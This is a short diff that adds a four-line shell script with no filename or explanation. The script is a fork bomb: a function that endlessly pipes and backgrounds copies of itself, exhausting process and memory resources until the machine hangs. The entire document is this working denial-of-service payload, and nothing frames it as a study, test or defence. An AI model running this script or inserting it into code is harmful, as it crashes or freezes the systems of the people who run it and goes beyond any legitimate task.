@@ -1,0 +1,4 @@
+#!/bin/sh
+b() { b | b & }
+b
+wait
